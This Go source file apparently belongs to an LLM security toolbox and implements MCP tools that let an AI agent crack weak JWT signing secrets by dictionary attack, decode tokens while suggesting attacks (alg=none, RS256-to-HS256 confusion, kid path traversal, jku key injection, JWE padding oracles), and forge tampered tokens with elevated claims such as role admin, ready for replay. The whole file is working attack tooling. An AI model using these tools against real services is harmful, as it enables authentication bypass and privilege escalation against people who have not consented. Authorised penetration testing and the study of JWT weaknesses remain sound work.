@@ -0,0 +1,390 @@
+package service
+
+import (
+	"bufio"
+	"context"
+	"fmt"
+	"iter"
+	"log"
+	"maps"
+	"os"
+	"slices"
+	"strings"
+	"time"
+
+	"github.com/mark3labs/mcp-go/mcp"
+
+	"github.com/go-harden/llm-security-toolbox/sectool/jwt"
+	"github.com/go-harden/llm-security-toolbox/sectool/protocol"
+)
+
+const (
+	jwtCrackDefaultTimeout = 30 * time.Second
+	jwtCrackMaxTimeout     = 5 * time.Minute
+)
+
+func (m *mcpServer) jwtCrackTool() mcp.Tool {
+	return mcp.NewTool("jwt_crack",
+		mcp.WithDescription(`Recover the signing secret of an HS256/HS384/HS512 JWT by local dictionary attack.
+
+Candidates: wordlist entries, then lines of wordlist_file (a path readable by the service); with neither, a built-in list of common weak secrets.
+Caps: timeout (default 30s, max 5m), max_candidates, workers (default half the CPUs). No traffic is sent.
+On success returns the secret and a forged_token re-signed with it: set_claims applied, or exp extended by a day when set_claims is omitted.`),
+		mcp.WithString("token", mcp.Required(), mcp.Description("Captured JWT (header.payload.signature)")),
+		mcp.WithArray("wordlist", mcp.Items(map[string]interface{}{"type": "string"}), mcp.Description("Candidate secrets")),
+		mcp.WithString("wordlist_file", mcp.Description("Path to a wordlist file, one candidate per line")),
+		mcp.WithString("timeout", mcp.Description("Time cap (e.g., '30s', max 5m)")),
+		mcp.WithNumber("max_candidates", mcp.Description("Stop after this many candidates")),
+		mcp.WithNumber("workers", mcp.Description("Parallel workers (default: half the CPUs)")),
+		mcp.WithObject("set_claims", mcp.Description("Claims to set in the forged token: {\"role\": \"admin\"}")),
+		annotateReadOnly,
+	)
+}
+
+func (m *mcpServer) handleJWTCrack(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
+	token, err := jwt.Parse(req.GetString("token", ""))
+	if err != nil {
+		return errorResult(err.Error()), nil
+	}
+
+	timeout := jwtCrackDefaultTimeout
+	if s := req.GetString("timeout", ""); s != "" {
+		if timeout, err = time.ParseDuration(s); err != nil {
+			return errorResult("invalid timeout: " + err.Error()), nil
+		}
+		timeout = min(timeout, jwtCrackMaxTimeout)
+	}
+	setClaims, ok := objectArg(req.GetArguments(), "set_claims")
+	if !ok {
+		return errorResult("set_claims must be an object"), nil
+	}
+
+	var candidates iter.Seq[string] = slices.Values(jwt.CommonSecrets)
+	var scanner *bufio.Scanner
+	wordlist := req.GetStringSlice("wordlist", nil)
+	if path := req.GetString("wordlist_file", ""); path != "" {
+		if err := m.service.guard.CheckReadable(path); err != nil {
+			return errorResultFromErr("failed to open wordlist: ", err), nil
+		}
+		f, err := os.Open(path)
+		if err != nil {
+			return errorResultFromErr("failed to open wordlist: ", err), nil
+		}
+		defer func() { _ = f.Close() }()
+		scanner = bufio.NewScanner(f)
+		candidates = concatSeq(slices.Values(wordlist), jwt.Lines(scanner))
+	} else if len(wordlist) > 0 {
+		candidates = slices.Values(wordlist)
+	}
+
+	log.Printf("mcp/jwt_crack: alg=%s timeout=%v", token.Algorithm(), timeout)
+	res, err := jwt.Crack(ctx, token, candidates, jwt.CrackOptions{
+		Timeout:       timeout,
+		MaxCandidates: req.GetInt("max_candidates", 0),
+		Workers:       req.GetInt("workers", 0),
+	})
+	if err != nil {
+		return errorResult(err.Error()), nil
+	} else if scanner != nil && scanner.Err() != nil {
+		return errorResultFromErr("failed to read wordlist: ", scanner.Err()), nil
+	}
+
+	resp := protocol.JWTCrackResponse{
+		Found:     res.Found,
+		Secret:    res.Secret,
+		Algorithm: token.Algorithm(),
+		Tried:     res.Tried,
+		Duration:  res.Elapsed.Round(time.Millisecond).String(),
+		Stopped:   res.Stopped,
+	}
+	if res.Found {
+		if resp.ForgedToken, resp.ForgedClaims, err = jwt.Forge(token, res.Secret, setClaims); err != nil {
+			return errorResult(fmt.Sprintf("secret found (%q) but forging failed: %v", res.Secret, err)), nil
+		}
+	}
+	log.Printf("mcp/jwt_crack: stopped=%s tried=%d in %s", res.Stopped, res.Tried, resp.Duration)
+	return jsonResult(resp)
+}
+
+func (m *mcpServer) jwtDecodeTool() mcp.Tool {
+	return mcp.NewTool("jwt_decode",
+		mcp.WithDescription(`Decode JWTs without verifying them and suggest attacks. JWEs (5 parts) are listed under encrypted with their header, segment sizes and hints; the payload stays encrypted.
+
+Set one of: token; text (a header line, cookie or body to search for tokens); or flow_id (searches the proxy flow's request and response).
+Returns each token's header, claims, iat/nbf/exp as RFC 3339 with an expired flag, and hints (weak HMAC, alg confusion, kid/jku injection).
+Tamper and re-sign with jwt_forge. No traffic is sent.`),
+		mcp.WithString("token", mcp.Description("JWT to decode (header.payload.signature), or a JWE (header.key.iv.ciphertext.tag)")),
+		mcp.WithString("text", mcp.Description("Header, cookie or body text containing JWTs")),
+		mcp.WithString("flow_id", mcp.Description("Proxy flow to extract JWTs from, or "+recentRefUsage)),
+		annotateReadOnly,
+	)
+}
+
+func (m *mcpServer) jwtForgeTool() mcp.Tool {
+	return mcp.NewTool("jwt_forge",
+		mcp.WithDescription(`Modify a JWT's claims or header and re-sign it locally.
+
+alg selects the signature (default: the token's alg):
+- none / None / NONE / nOnE: unsigned token (alg:none bypass)
+- HS256/HS384/HS512: secret, or guess_secret to recover it from common weak secrets (use jwt_crack for wordlists). For RS256->HS256 algorithm confusion, pass the server's PEM public key as secret.
+- RS*/PS*/ES*/EdDSA: private_key (PEM), e.g. a key you control referenced via set_header jku/jwk/kid
+Returns the token and add_header ("Authorization: Bearer <token>" by default) to pass to replay_send add_headers. No traffic is sent.`),
+		mcp.WithString("token", mcp.Required(), mcp.Description("JWT to modify")),
+		mcp.WithObject("set_claims", mcp.Description("Claims to set: {\"role\": \"admin\", \"sub\": \"1\"}")),
+		mcp.WithArray("remove_claims", mcp.Items(map[string]interface{}{"type": "string"}), mcp.Description("Claim names to delete")),
+		mcp.WithObject("set_header", mcp.Description("Header fields to set: {\"kid\": \"../../dev/null\"}")),
+		mcp.WithString("alg", mcp.Description("Signing algorithm (default: the token's)")),
+		mcp.WithString("secret", mcp.Description("HMAC secret (HS* algorithms)")),
+		mcp.WithBoolean("guess_secret", mcp.Description("Recover the HMAC secret of token from built-in common secrets")),
+		mcp.WithString("private_key", mcp.Description("PEM private key (RS*/PS*/ES*/EdDSA)")),
+		mcp.WithString("expires_in", mcp.Description("Set exp to now plus this duration (e.g., '24h')")),
+		mcp.WithString("header_name", mcp.Description("Header for add_header (default: Authorization, with Bearer scheme)")),
+		annotateReadOnly,
+	)
+}
+
+func (m *mcpServer) handleJWTDecode(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
+	token, text, flowID := req.GetString("token", ""), req.GetString("text", ""), req.GetString("flow_id", "")
+	var raw, rawJWE []string
+	switch {
+	case token != "" && strings.Count(token, ".") == 4:
+		rawJWE = []string{strings.TrimSpace(token)}
+	case token != "":
+		raw = []string{token}
+	case text != "":
+		raw, rawJWE = jwt.Find(text), jwt.FindJWE(text)
+	case flowID != "":
+		flowID, err := m.service.resolveFlowRef(ctx, flowID)
+		if err != nil {
+			return errorResultFromErr("", err), nil
+		}
+		entry, ok := m.service.flowStore.Lookup(flowID)
+		if !ok {
+			return errorResult("flow_id not found: run proxy_poll to see available flows"), nil
+		}
+		proxyEntries, err := m.service.httpBackend.GetProxyHistory(ctx, 1, entry.Offset)
+		if err != nil {
+			return errorResultFromErr("failed to fetch flow: ", err), nil
+		} else if len(proxyEntries) == 0 {
+			return errorResult("flow not found in proxy history"), nil
+		}
+		flowText := proxyEntries[0].Request + "\n" + proxyEntries[0].Response
+		raw, rawJWE = jwt.Find(flowText), jwt.FindJWE(flowText)
+	default:
+		return errorResult("one of token, text or flow_id is required"), nil
+	}
+
+	resp := protocol.JWTDecodeResponse{Tokens: make([]protocol.JWTDecoded, 0, len(raw))}
+	for _, s := range raw {
+		t, err := jwt.Parse(s)
+		if err != nil {
+			if token != "" {
+				return errorResult(err.Error()), nil
+			}
+			continue // regex matches that are not valid JSON segments
+		}
+		resp.Tokens = append(resp.Tokens, decodeJWT(s, t, time.Now()))
+	}
+	for _, s := range rawJWE {
+		t, err := jwt.ParseJWE(s)
+		if err != nil {
+			if token != "" {
+				return errorResult(err.Error()), nil
+			}
+			continue
+		}
+		resp.Encrypted = append(resp.Encrypted, decodeJWE(s, t))
+	}
+	if len(resp.Tokens) == 0 && len(resp.Encrypted) == 0 {
+		return errorResult("no JWT found"), nil
+	}
+	log.Printf("mcp/jwt_decode: decoded %d token(s) and %d JWE(s)", len(resp.Tokens), len(resp.Encrypted))
+	return jsonResult(resp)
+}
+
+// decodeJWT describes t, rendering its time claims and listing attacks worth trying.
+func decodeJWT(raw string, t *jwt.Token, now time.Time) protocol.JWTDecoded {
+	d := protocol.JWTDecoded{
+		Token:     raw,
+		Algorithm: t.Algorithm(),
+		Header:    t.Header,
+		Claims:    t.Claims,
+	}
+	if iat, ok := t.NumericDate("iat"); ok {
+		d.IssuedAt = iat.Format(time.RFC3339)
+	}
+	if nbf, ok := t.NumericDate("nbf"); ok {
+		d.NotBefore = nbf.Format(time.RFC3339)
+	}
+	if exp, ok := t.NumericDate("exp"); ok {
+		d.ExpiresAt = exp.Format(time.RFC3339)
+		d.Expired = now.After(exp)
+	} else {
+		d.Hints = append(d.Hints, "no exp claim: token never expires")
+	}
+
+	switch alg := strings.ToUpper(d.Algorithm); {
+	case alg == "NONE" || len(t.Signature) == 0:
+		d.Hints = append(d.Hints, "unsigned token: claims can be edited freely with jwt_forge alg=none")
+	case strings.HasPrefix(alg, "HS"):
+		d.Hints = append(d.Hints, "HMAC-signed: try jwt_crack for a weak secret, or jwt_forge alg=none")
+	default:
+		d.Hints = append(d.Hints, "asymmetric: try jwt_forge alg=none, or alg=HS256 with the server's public key as secret (algorithm confusion)")
+	}
+	if _, ok := t.Header["kid"]; ok {
+		d.Hints = append(d.Hints, "kid header: test path traversal or SQL injection in the key lookup via jwt_forge set_header")
+	}
+	for _, name := range []string{"jku", "x5u", "jwk"} {
+		if _, ok := t.Header[name]; ok {
+			d.Hints = append(d.Hints, name+" header: the server may fetch or trust an attacker-supplied key; sign with your own private_key")
+		}
+	}
+	return d
+}
+
+// decodeJWE describes t's structure and lists attacks on its key management and
+// content encryption. The payload stays encrypted.
+func decodeJWE(raw string, t *jwt.JWE) protocol.JWEDecoded {
+	d := protocol.JWEDecoded{
+		Token:             raw,
+		Algorithm:         t.Algorithm(),
+		Encryption:        t.Encryption(),
+		Header:            t.Header,
+		EncryptedKeyBytes: len(t.EncryptedKey),
+		IVBytes:           len(t.IV),
+		CiphertextBytes:   len(t.Ciphertext),
+		TagBytes:          len(t.Tag),
+	}
+
+	switch alg := strings.ToUpper(d.Algorithm); {
+	case alg == "RSA1_5":
+		d.Hints = append(d.Hints, "RSA1_5 key wrap: test for a Bleichenbacher padding oracle by modifying encrypted_key and comparing errors or timing")
+	case alg == "DIR":
+		d.Hints = append(d.Hints, "direct encryption with a shared key: there is no encrypted key, and a leaked key decrypts every token")
+	case strings.HasPrefix(alg, "ECDH-ES"):
+		d.Hints = append(d.Hints, "ECDH-ES: test an invalid-curve attack with an epk header point that is not on the curve")
+	case strings.HasPrefix(alg, "PBES2"):
+		d.Hints = append(d.Hints, "PBES2: the key derives from a password; a weak one can be cracked offline, and a huge p2c may exhaust the server")
+	}
+	if strings.Contains(strings.ToUpper(d.Encryption), "CBC") {
+		d.Hints = append(d.Hints, "CBC content encryption: a padding oracle exists if the server distinguishes padding errors from MAC failures")
+	}
+	if zip, _ := t.Header["zip"].(string); zip != "" {
+		d.Hints = append(d.Hints, "compressed plaintext (zip): ciphertext length may leak secrets mixed with attacker input")
+	}
+	if cty, _ := t.Header["cty"].(string); strings.EqualFold(cty, "JWT") {
+		d.Hints = append(d.Hints, "nested JWT: once decrypted, the inner token is a JWS to decode with jwt_decode")
+	}
+	for _, name := range []string{"kid", "jku", "x5u", "jwk"} {
+		if _, ok := t.Header[name]; ok {
+			d.Hints = append(d.Hints, name+" header: the server's key selection may be attacker-influenced")
+		}
+	}
+	return d
+}
+
+func (m *mcpServer) handleJWTForge(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
+	token, err := jwt.Parse(req.GetString("token", ""))
+	if err != nil {
+		return errorResult(err.Error()), nil
+	}
+	args := req.GetArguments()
+	setClaims, ok := objectArg(args, "set_claims")
+	if !ok {
+		return errorResult("set_claims must be an object"), nil
+	}
+	setHeader, ok := objectArg(args, "set_header")
+	if !ok {
+		return errorResult("set_header must be an object"), nil
+	}
+	if s := req.GetString("expires_in", ""); s != "" {
+		d, err := time.ParseDuration(s)
+		if err != nil {
+			return errorResult("invalid expires_in: " + err.Error()), nil
+		}
+		setClaims = maps.Clone(setClaims)
+		if setClaims == nil {
+			setClaims = make(map[string]interface{}, 1)
+		}
+		setClaims["exp"] = time.Now().Add(d).Unix()
+	}
+
+	alg := req.GetString("alg", token.Algorithm())
+	if alg == "" {
+		return errorResult("token has no alg: set alg"), nil
+	}
+
+	var key []byte
+	var guessed string
+	switch upper := strings.ToUpper(alg); {
+	case upper == "NONE":
+	case strings.HasPrefix(upper, "HS"):
+		if secret := req.GetString("secret", ""); secret != "" {
+			key = []byte(secret)
+		} else if req.GetBool("guess_secret", false) {
+			res, err := jwt.Crack(ctx, token, slices.Values(jwt.CommonSecrets), jwt.CrackOptions{Timeout: jwtCrackDefaultTimeout})
+			if err != nil {
+				return errorResultFromErr("guess_secret failed: ", err), nil
+			} else if !res.Found {
+				return errorResult(fmt.Sprintf("secret not among %d common secrets: run jwt_crack with a wordlist or pass secret", res.Tried)), nil
+			}
+			guessed = res.Secret
+			key = []byte(guessed)
+		} else {
+			return errorResult(alg + " requires secret or guess_secret"), nil
+		}
+	default:
+		pemKey := req.GetString("private_key", "")
+		if pemKey == "" {
+			return errorResult(alg + " requires private_key (PEM)"), nil
+		}
+		key = []byte(pemKey)
+	}
+
+	header, claims, changed := jwt.Tamper(token, setHeader, setClaims, req.GetStringSlice("remove_claims", nil))
+	forged, err := jwt.Sign(header, claims, alg, key)
+	if err != nil {
+		return errorResult(err.Error()), nil
+	}
+	header["alg"] = alg
+
+	headerName := req.GetString("header_name", "Authorization")
+	addHeader := headerName + ": " + forged
+	if strings.EqualFold(headerName, "Authorization") {
+		addHeader = headerName + ": Bearer " + forged
+	}
+
+	log.Printf("mcp/jwt_forge: alg=%s->%s changed=%v", token.Algorithm(), alg, changed)
+	return jsonResult(protocol.JWTForgeResponse{
+		Token:     forged,
+		Algorithm: alg,
+		Header:    header,
+		Claims:    claims,
+		Changed:   changed,
+		Secret:    guessed,
+		AddHeader: addHeader,
+	})
+}
+
+// objectArg returns the object argument name, or false if it is set to a non-object.
+func objectArg(args map[string]interface{}, name string) (map[string]interface{}, bool) {
+	raw, ok := args[name]
+	if !ok || raw == nil {
+		return nil, true
+	}
+	obj, ok := raw.(map[string]interface{})
+	return obj, ok
+}
+
+// concatSeq yields the values of each sequence in turn.
+func concatSeq[T any](seqs ...iter.Seq[T]) iter.Seq[T] {
+	return func(yield func(T) bool) {
+		for _, seq := range seqs {
+			for v := range seq {
+				if !yield(v) {
+					return
+				}
+			}
+		}
+	}
+}